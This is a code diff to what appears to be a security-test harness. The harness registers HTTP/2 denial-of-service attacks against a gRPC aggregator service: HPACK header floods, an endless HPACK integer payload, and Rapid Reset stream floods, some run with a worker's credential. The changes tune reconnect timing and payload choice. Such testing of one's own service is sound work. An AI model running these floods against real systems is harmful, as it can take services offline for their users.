@@ -4,12 +4,13 @@ import time
 
 import http2
 from attacks.registry import attack
-from http2 import Closed, Connection, grpc_fields
+from http2 import Connection, grpc_fields
 
 BYTES_PER_SECOND = 1_400_000
 RESETS = 60_000
 FLOOD_FRAMES_PER_SECOND = 40_000
 FIELD_BYTES = 7000
+AGAIN_SECONDS = 0.1  # before a connection that was closed is made anew: handshakes are an attack of their own
 HEARTBEAT = "/distro.v1.AggregatorService/Heartbeat"
 
 
@@ -40,7 +41,7 @@ def pump(target, token, parts, bytes_per_second=BYTES_PER_SECOND):
             if connection is not None:
                 connection.close()
             connection, closed = None, closed + 1
-            time.sleep(0.05)
+            time.sleep(AGAIN_SECONDS)
         time.sleep(max(0.0, begin + sent / bytes_per_second - time.monotonic()))
     return {"bytes": sent, "connections": connections, "closed": closed, "bytes_per_second": round(sent / target.seconds)}
 
@@ -92,9 +93,9 @@ def hpack_crumbs(target):
     return pump(target, None, long_fields)
 
 
-@attack("hpack_worker", "the same after a call with a worker's credential", credential="worker", in_all=False)
+@attack("hpack_worker", "`hpack_integer` after a call with a worker's credential", credential="worker", in_all=False)
 def hpack_worker(target):
-    return pump(target, target.tokens["mallory"], long_fields)
+    return pump(target, target.tokens["mallory"], endless_integer)
 
 
 @attack("hpack_table", "4000 references to one large header in each request, 1.4 MB/s")
@@ -123,7 +124,7 @@ def rapid_reset(target):
     return pump(target, None, resets, reset_rate(target))
 
 
-@attack("rapid_reset_worker", "the same after a call with a worker's credential", credential="worker", in_all=False)
+@attack("rapid_reset_worker", "`rapid_reset` after a call with a worker's credential", credential="worker", in_all=False)
 def rapid_reset_worker(target):
     return pump(target, target.tokens["mallory"], resets, reset_rate(target))
 
